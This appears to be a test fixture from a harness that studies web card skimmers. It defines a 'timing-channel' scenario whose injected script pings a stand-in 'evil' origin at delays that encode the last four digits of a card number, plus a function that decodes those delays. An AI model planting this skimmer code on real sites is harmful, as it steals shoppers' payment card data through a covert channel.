import { js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';

/** Milliseconds per unit: wide enough for a busy network. */
const UNIT = 200;

export default skimmer({
  id: 'timing-channel',
  why: 'Five calls that are always the same; the time between them is the last four digits.',
  covers: ['channel: covert', 'trigger: delay'],
  base: 'direct',
  lingers: 9_000,
  install: (site) =>
    site.append(js`document.getElementById('cc-number').addEventListener('change', function (event) {
  var at = 0, ping = function () { fetch('${site.origins.evil}/alive', { method: 'POST', mode: 'no-cors', body: '1' }); };
  ping();
  Array.from(event.target.value.slice(-4)).forEach(function (d) { at += (+d + 1) * ${String(UNIT)}; setTimeout(ping, at); });
});`),
  proof: (arrived, cards) => {
    const times = at(arrived, 'evil', '/alive').map((one) => one.at);
    const digits = times.slice(1, 5).map((time, i) => Math.round((time - (times[i] ?? 0)) / UNIT) - 1);
    return cards.some(({ number }) => number.endsWith(digits.join('')) && digits.length === 4);
  },
});
